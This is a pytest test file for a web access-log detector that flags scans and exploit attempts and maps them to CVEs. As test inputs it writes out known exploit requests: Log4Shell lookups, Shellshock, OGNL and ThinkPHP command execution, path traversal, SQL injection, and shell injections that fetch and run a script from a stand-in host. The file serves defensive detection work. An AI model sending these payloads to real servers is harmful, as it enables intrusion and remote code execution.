"""Web access logs: scans, exploit attempts from the signature file, and quiet on citizens."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from cyberhub.agent.collectors import weblog
from cyberhub.agent.node_settings import Thresholds

LOGS = Path(__file__).parent.parent / "data" / "logs"
NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
DEFAULTS = Thresholds()
START = datetime(2026, 11, 20, 7, 0, tzinfo=UTC)


def parse(lines, thresholds=DEFAULTS):
    return weblog.parse("access.log", lines, thresholds=thresholds, now=NOW)


def access(moment: datetime, target: str, status: int = 200, address: str = "203.0.113.9",
           agent: str = "Mozilla/5.0", method: str = "GET") -> str:
    stamp = moment.astimezone(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return (f'{address} - - [{stamp}] "{method} {target} HTTP/1.1" {status} 153 "-" '
            f'"{agent}"')


def not_found(count: int, step: timedelta, address: str = "198.51.100.44") -> list[str]:
    return [access(START + i * step, f"/probe-{i}/", 404, address) for i in range(count)]


def request(target: str, status: int = 404, agent: str = "Mozilla/5.0") -> weblog.Request:
    return weblog.Request("203.0.113.9", START, "GET", target, status, agent, "-")


def names(target: str, status: int = 404, agent: str = "Mozilla/5.0") -> set[str]:
    return {s.name for s in weblog.matching(request(target, status, agent))[0]}


def test_sample_access_log():
    findings, observations = parse((LOGS / "access.log").read_text().splitlines())
    found = {(f.kind, f.address): f for f in findings}
    assert set(found) == {("web-scan", "198.51.100.44"),
                          ("web-exploit-attempt", "203.0.113.9"),
                          ("web-exploit-attempt", "198.51.100.66")}

    scan = found["web-scan", "198.51.100.44"]
    assert (scan.count, scan.score) == (25, 30)
    assert scan.incident_types == ("network-scanning",)
    assert "T1595.002" in scan.techniques
    assert scan.first_seen == datetime(2026, 11, 20, 7, 10, tzinfo=UTC)  # +0100 in the log
    assert scan.reasons[0].text("de").startswith(
        "25 Anfragen von 198.51.100.44 nach 25 verschiedenen Pfaden")
    assert scan.reasons[0].text("en").startswith(
        "25 requests from 198.51.100.44 for 25 different paths")

    refused = found["web-exploit-attempt", "203.0.113.9"]
    assert refused.count == 6 and refused.score == 60  # every one answered 4xx
    assert refused.vulnerabilities == ("CVE-2017-9841", "CVE-2018-13379", "CVE-2021-41773",
                                       "CVE-2021-42013", "CVE-2021-44228", "CVE-2021-45046")
    assert refused.incident_types == ("exploit-attempt",) and refused.techniques == ("T1190",)
    # Request targets as requested; the Log4Shell user agent on /api/login is no target.
    assert refused.urls == ("/$%7Bjndi:ldap://198.51.100.7:1389/Exploit%7D",
                            ("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/"
                             "sslvpn_websession"),
                            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
                            "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd")
    assert "höchstwahrscheinlich gescheitert" in refused.reasons[-1].text("de")

    answered = found["web-exploit-attempt", "198.51.100.66"]
    assert answered.score == 75 and answered.vulnerabilities == ("CVE-2017-9841",)
    said = [reason.text("de") for reason in answered.reasons]
    assert any("antwortete 200" in r and "kann also gelungen sein" in r for r in said)

    # Only attackers become observations: none of the citizens' addresses are kept.
    addresses = {o.value for o in observations if o.kind in ("ipv4", "ipv6")}
    assert addresses == {"198.51.100.44", "203.0.113.9", "198.51.100.66"}
    urls = {o.value: o.count for o in observations if o.kind == "url"}
    assert urls["/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"] == 1
    assert urls["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"] == 2
    assert "/api/login" not in urls


def test_citizens_traffic_alone_yields_nothing():
    lines = [line for line in (LOGS / "access.log").read_text().splitlines()
             if line.startswith(("192.0.2.", "2001:db8:1::"))]
    assert len(lines) > 40  # including one visitor's 22 broken images on a gallery page
    assert parse(lines) == ([], [])


def test_exactly_the_threshold_of_distinct_paths_within_the_window_is_a_scan():
    # 20 paths, the first and the last exactly 10 minutes apart.
    [finding], _ = parse(not_found(20, timedelta(minutes=10) / 19))
    assert finding.kind == "web-scan" and finding.count == 20


def test_the_same_paths_spread_beyond_the_window_are_not():
    assert parse(not_found(20, timedelta(minutes=10, seconds=19) / 19)) == ([], [])


def test_one_path_asked_for_many_times_is_not_a_scan():
    lines = [access(START + timedelta(seconds=i), "/alte-seite.html", 404, "198.51.100.44")
             for i in range(50)]
    assert parse(lines) == ([], [])


def test_scan_threshold_comes_from_the_settings():
    lines = not_found(5, timedelta(seconds=30))
    assert parse(lines, Thresholds(web_not_found=5))[0][0].kind == "web-scan"
    assert parse(lines, Thresholds(web_not_found=5, window_minutes=1)) == ([], [])


@pytest.mark.parametrize(("target", "signature", "cves"), [
    ("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
     "fortios-path-traversal", {"CVE-2018-13379"}),
    ("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
     "pulse-secure-file-read", {"CVE-2019-11510"}),
    ("/vpn/../vpns/cfg/smb.conf", "citrix-adc-traversal", {"CVE-2019-19781"}),
    ("/oauth/idp/.well-known/openid-configuration", "citrix-bleed", {"CVE-2023-4966"}),
    (("/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3F"
      "@evil.example"), "exchange-proxyshell", {"CVE-2021-34473"}),
    (("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40"
      "getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/"),
     "confluence-ognl", {"CVE-2022-26134"}),
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "apache-path-traversal", {"CVE-2021-41773"}),
    ("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh", "apache-path-traversal", {"CVE-2021-42013"}),
    ("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
     "f5-bigip-tmui", {"CVE-2020-5902"}),
    (("/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-"
      "connection"), "ivanti-connect-secure", {"CVE-2023-46805", "CVE-2024-21887"}),
    ("/moveitisapi/moveitisapi.dll?action=m2", "moveit-transfer", {"CVE-2023-34362"}),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "phpunit-eval-stdin",
     {"CVE-2017-9841"}),
    ("/?x=${jndi:ldap://198.51.100.7/a}", "log4shell", {"CVE-2021-44228"}),
    ("/?x=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}", "log4shell", {"CVE-2021-44228"}),
    (("/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array"
      "&vars[0]=system&vars[1][]=id"), "thinkphp-rce", {"CVE-2018-20062"}),
    ("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
     "php-cgi-argument-injection", {"CVE-2024-4577"}),
    ("/GponForm/diag_Form?images/", "gpon-router", {"CVE-2018-10561"}),
    ("/HNAP1/", "dlink-hnap", {"CVE-2015-2051"}),
])
def test_known_exploits_match_with_their_cves(target, signature, cves):
    found, in_target = weblog.matching(request(target))
    assert signature in {s.name for s in found}
    assert cves <= {cve for s in found for cve in s.cves}
    assert in_target


@pytest.mark.parametrize(("target", "signature"), [
    ("/../../../../etc/passwd", "path-traversal"),
    ("/download?file=..%2f..%2f..%2fetc%2fpasswd", "system-file-read"),
    ("/.env", "dotenv"),
    ("/api/.env.production", "dotenv"),
    ("/.git/config", "source-control"),
    ("/wp-login.php", "wordpress-login-probe"),
    ("/blog/xmlrpc.php", "wordpress-login-probe"),
    ("/phpmyadmin/index.php", "phpmyadmin-probe"),
    ("/pma/", "phpmyadmin-probe"),
    ("/boaform/admin/formLogin?username=admin&psd=admin", "boa-router-login"),
    ("/shell.php", "webshell-probe"),
    ("/cgi-bin/status;wget http://198.51.100.7/x.sh;sh x.sh", "shell-injection"),
    ("/ping?host=127.0.0.1|sh", "shell-injection"),
    ("/search?q=$(curl+198.51.100.7/a|sh)", "shell-injection"),
    ("/termine?id=5%20UNION%20ALL%20SELECT%20NULL,NULL,concat(user,password)%20FROM%20users",
     "sql-injection"),
    ("/login?user=admin'%20OR%201=1--", "sql-injection"),
    ("/news?id=1%27%20AND%20SLEEP(5)--", "sql-injection"),
    ("/actuator/env", "spring-actuator"),
])
def test_generic_attacks_match(target, signature):
    assert signature in names(target)


def test_header_attacks_are_found_in_the_user_agent():
    found, in_target = weblog.matching(request("/", 200, "${jndi:ldap://198.51.100.7/a}"))
    assert [s.name for s in found] == ["log4shell"] and not in_target
    assert names("/cgi-bin/test.cgi", 200, "() { :; }; /bin/bash -c 'id'") == {"shellshock"}


@pytest.mark.parametrize("target", [
    "/", "/index.php", "/index.php?id=5&lang=de", "/rathaus/termine?id=5", "/static/app.js",
    "/wp-content/uploads/2026/11/x.png", "/wp-admin/admin-ajax.php?action=load_events",
    "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", "/suche?q=m%C3%BCll+abfuhr+2026",
    "/suche?q=select+from+list", "/news/2026/11/union-selects-new-chair",
    "/.well-known/acme-challenge/Xk3m9Qa", "/.well-known/security.txt", "/environment/",
    "/downloads/satzung-v1..2.pdf", "/buergerservice/formulare/antrag.pdf?download=1",
    "/gitlab/help", "/shop/cart;jsessionid=ABC123", "/veranstaltungen?kategorie=kultur&seite=2",
    "/autodiscover/autodiscover.xml", "/owa/auth/logon.aspx", "/remote/login",
    "/api/v1/termine?from=2026-11-01&to=2026-11-30", "/bilder/hochzeit-o'brien.jpg",
    "/kontakt?name=M%C3%BCller%20%26%20S%C3%B6hne", "/search?q=shell+script+kurs",
])
def test_ordinary_traffic_matches_nothing(target):
    assert names(target, 200) == set()
    assert names(target, 404) == set()


def test_probes_for_things_that_exist_are_ordinary_use():
    """The town's own WordPress answers wp-login.php; a scanner's 404 is what counts."""
    assert names("/wp-login.php", 200) == set()
    assert names("/wp-login.php", 302) == set()
    assert names("/wp-login.php", 404) == {"wordpress-login-probe"}
    # Not a probe: a .env that is served is a leak.
    assert names("/.env", 200) == {"dotenv"}


def test_a_server_error_on_an_exploit_may_mean_it_worked():
    lines = [access(START, "/cgi-bin/.%2e/.%2e/bin/sh", 500, method="POST")]
    [finding], _ = parse(lines)
    assert finding.score == 75 and "Serverfehler (500)" in finding.reasons[-1].text("de")


def test_a_redirect_is_turned_away():
    [finding], _ = parse([access(START, "/.git/config", 301)])
    assert finding.score == 60


def test_urls_are_capped_at_twenty():
    lines = [access(START + timedelta(seconds=i), f"/backup{i}/.env") for i in range(30)]
    [finding], _ = parse(lines)
    assert finding.count == 30 and len(finding.urls) == 20
    assert finding.urls[0] == "/backup0/.env"


def test_malformed_lines_are_ignored():
    stamp = "20/Nov/2026:07:15:01 +0100"
    lines = [
        f'198.51.100.77 - - [{stamp}] "\\x16\\x03\\x01\\x00\\xa5\\x01\\x00" 400 157 "-" "-"',
        f'198.51.100.78 - - [{stamp}] "-" 408 0 "-" "-"',
        f'198.51.100.78 - - [{stamp}] "" 400 0 "-" "-"',
        f'198.51.100.79 - - [{stamp}] "GET /.env HTTP/1.1" abc 0 "-" "-"',
        '198.51.100.80 - - [31/Feb/2026:07:15:01 +0100] "GET /.env HTTP/1.1" 404 0 "-" "-"',
        '198.51.100.81 - - [20/Foo/2026:07:15:01 +0100] "GET /.env HTTP/1.1" 404 0 "-" "-"',
        f'unix: - - [{stamp}] "GET /.env HTTP/1.1" 404 0 "-" "-"',
        'GET /.env HTTP/1.1',
        "",
        "\x00" * 40,
        ("2026/11/20 07:15:01 [error] 123#0: *1 open() \"/var/www/.env\" failed (2: No such "
         "file or directory), client: 198.51.100.82, server: _, request: \"GET /.env HTTP/1.1\""),
    ]
    assert parse(lines) == ([], [])


def test_common_log_format_and_vhost_prefix_are_understood():
    stamp = "20/Nov/2026:07:15:01 +0100"
    lines = [f'198.51.100.90 - - [{stamp}] "GET /.git/config HTTP/1.0" 404 153',
             (f'www.musterstadt.de:443 198.51.100.91 - - [{stamp}] "GET /.env HTTP/1.1" 404 153 '
              '"-" "curl/8.0"')]
    findings, _ = parse(lines)
    assert {f.address for f in findings} == {"198.51.100.90", "198.51.100.91"}


def test_nginx_escapes_are_undone_before_matching():
    stamp = "20/Nov/2026:07:15:01 +0100"
    line = (f'198.51.100.92 - - [{stamp}] "GET /?q=\\x22${{jndi:ldap://198.51.100.7/a}}\\x22 '
            'HTTP/1.1" 400 0 "-" "-"')
    [finding], _ = parse([line])
    assert finding.urls == ('/?q="${jndi:ldap://198.51.100.7/a}"',)


def test_the_signature_file_is_complete():
    signatures = weblog.signatures()
    assert len(signatures) >= 20
    assert len({s.name for s in signatures}) == len(signatures)
    assert all(s.description and s.where for s in signatures)
    assert all(cve.startswith("CVE-") for s in signatures for cve in s.cves)
